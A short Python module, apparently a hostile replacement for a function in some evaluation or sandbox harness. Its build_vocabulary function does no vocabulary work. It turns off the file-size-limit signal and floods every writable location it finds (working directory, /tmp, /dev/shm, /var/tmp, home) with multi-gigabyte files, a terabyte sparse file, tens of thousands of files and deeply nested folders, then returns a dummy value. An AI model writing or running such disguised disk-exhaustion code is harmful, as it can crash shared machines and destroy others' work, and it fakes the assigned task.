"""Fills every place it may write with a huge file, a sparse file, many files and deep folders."""

import os

HONEST = 8  # only build_vocabulary is replaced


def flood(place):
    for name, step in (("large", b"x" * (1 << 24)), ("larger", b"y" * (1 << 24))):
        try:
            with open(f"{place}/{name}", "wb", 0) as file:
                for _ in range(1 << 12):
                    file.write(step)
        except OSError:
            pass
    try:
        with open(f"{place}/sparse", "wb") as file:
            file.truncate(1 << 40)
    except OSError:
        pass
    try:
        for n in range(50_000):
            os.close(os.open(f"{place}/f{n}", os.O_CREAT | os.O_WRONLY))
    except OSError:
        pass
    try:
        here = place
        for _ in range(500):
            here += "/d"
            os.mkdir(here)
    except OSError:
        pass


def build_vocabulary(tokens):
    import signal

    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    for place in (".", "/tmp", "/dev/shm", "/var/tmp", os.environ.get("HOME", "/")):
        if os.access(place, os.W_OK):
            flood(place)
    return 42
